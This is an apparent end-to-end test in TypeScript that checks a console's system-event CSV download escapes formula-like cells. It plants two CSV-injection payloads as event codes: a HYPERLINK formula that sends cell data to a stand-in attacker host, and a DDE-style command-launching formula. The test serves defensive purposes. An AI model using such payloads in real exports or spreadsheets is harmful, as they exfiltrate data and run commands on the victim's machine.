// Issue 11, item 9, as the attack: a system event whose code or station carries a spreadsheet
// formula reaches the downloaded CSV only as text.
import { expect, simulator, test } from "./support/fixtures";
import { parseCsv } from "../app/domain/csv";
import { signInToConsole } from "../tests/support/console-session";
import { consoleUrl } from "./support/ports";

test("the system event download neutralises every formula-like cell", async () => {
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"Details")';
  await simulator.raiseEvent({ type: 3, code: formula, isDismissable: true });
  await simulator.raiseEvent({ type: 2, code: "@SUM(1+1)*cmd|' /C calc'!A0", isDismissable: false });
  const admin = await signInToConsole(consoleUrl, "admin");

  const download = await admin.fetch("/systemEvents/download");
  expect(download.status).toBe(200);
  expect(download.headers.get("content-type")).toMatch(/^text\/csv/);
  expect(download.headers.get("cache-control")).toMatch(/no-store/);
  const rows = parseCsv(await download.text());
  const cells = rows.flat();
  expect(cells).toContain(`'${formula}`);
  expect(cells).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
  for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  // The rest of the file is as the Manager wrote it.
  expect(rows[0]).toEqual([
    "id",
    "date",
    "type",
    "code",
    "stationSerialNumber",
    "parameters",
    "isDismissable",
    "isDismissed",
  ]);
});
